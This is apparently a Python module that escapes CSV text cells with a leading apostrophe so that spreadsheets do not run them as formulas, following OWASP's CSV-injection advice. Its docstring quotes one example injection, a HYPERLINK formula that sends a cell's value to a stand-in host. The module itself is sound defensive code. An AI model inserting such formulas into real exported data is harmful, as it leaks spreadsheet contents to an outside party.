"""Text cells of a CSV that a spreadsheet opens as text, never as a formula (OWASP's advice on CSV injection).

LibreOffice and Excel run a cell that starts with `=` as a formula when they open a CSV: a title `=6*7` shows
42, and `=HYPERLINK("http://x.example/?"&A1,"click")` is a live link that sends a cell to another host. So a
text cell that starts like a formula gets an apostrophe before it, which every spreadsheet shows as text. A cell
that starts with an apostrophe gets one too, so that removing one leading apostrophe always gives the value
back (`value_of`, what kparchive.offline_search reads the CSV with). Only text columns: numbers, dates and
booleans are written as they are, and no text column holds a negative number (one would become the text '-2).
Apart from the catalogue's heavy modules, so that a reader of the CSV imports only this.
"""

from __future__ import annotations

# The first characters that make a spreadsheet read a cell as a formula (OWASP's list), and the apostrophe that
# marks a text cell as text.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
# Told to readers of the CSV in datapackage.json; the data page says the same, in both languages.
RULE = ("A text cell that would start with =, +, -, @, a tab, a carriage return or an apostrophe is written with an "
        "apostrophe before it, so that a spreadsheet shows it as text and never runs it as a formula: remove one "
        "leading apostrophe from a text cell to get its value. Numbers, dates and booleans are written as they "
        "are; statements.json holds every value as it is.")


def neutral(text: str) -> str:
    """A text cell no spreadsheet reads as a formula: an apostrophe before a text that starts like one, or with
    an apostrophe."""
    return TEXT_MARK + text if text.startswith((*FORMULA_START, TEXT_MARK)) else text


def value_of(cell: str) -> str:
    """The value of a text cell (`neutral`'s inverse). A number's, date's or boolean's cell never starts with an
    apostrophe, so a whole row may go through it."""
    return cell.removeprefix(TEXT_MARK)
